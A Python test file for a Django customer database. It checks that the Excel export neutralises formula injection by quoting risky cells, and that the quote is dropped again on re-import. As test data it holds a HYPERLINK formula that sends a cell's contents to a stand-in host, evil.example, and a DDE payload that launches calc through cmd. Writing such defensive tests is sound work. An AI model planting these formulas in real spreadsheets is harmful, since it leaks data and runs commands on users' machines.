"""The Excel export never writes a live formula (issue 8, finding 5): text that a spreadsheet
would run gets OWASP's leading quote and is written as a text cell; ID numbers stay text."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from customers.imports import FORMULA_TRIGGERS, _cell, neutralise
from customers.services.customers import customer_update

EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"click")'


def _exported(client):
    response = client.get(reverse("customers:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    return header, list(sheet.iter_rows(min_row=2))


def test_a_hyperlink_formula_in_a_note_comes_out_as_quoted_text(customer_file, manager, client_for):
    customer_update(customer=customer_file, by=manager, changes={"notes": EVIL})
    header, rows = _exported(client_for(manager))
    (row,) = rows
    note = row[header.index("备注")]
    assert note.data_type == "s"  # a string, not a formula ("f")
    assert note.value == "'" + EVIL
    id_number = row[header.index("证件号码")]
    assert id_number.data_type == "s" and id_number.number_format == "@"
    assert id_number.value == customer_file.id_number


@pytest.mark.parametrize("start", FORMULA_TRIGGERS)
def test_every_cell_starting_like_a_formula_is_neutralised(
    start, customer_file, manager, client_for
):
    customer_update(
        customer=customer_file,
        by=manager,
        changes={"name": f"{start}1+1", "address": f"{start}cmd|' /C calc'!A0", "notes": start},
    )
    _header, rows = _exported(client_for(manager))
    for cell in rows[0]:
        assert cell.data_type != "f"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value


def test_plain_text_is_left_alone():
    assert neutralise("东村3组12号") == "东村3组12号"
    assert neutralise("13812345678") == "13812345678"
    assert neutralise(None) is None


def test_the_quote_is_dropped_again_on_import_so_a_ledger_round_trips():
    assert _cell("'" + EVIL) == EVIL
    assert _cell("'ordinary") == "'ordinary"  # a quote the user typed is theirs
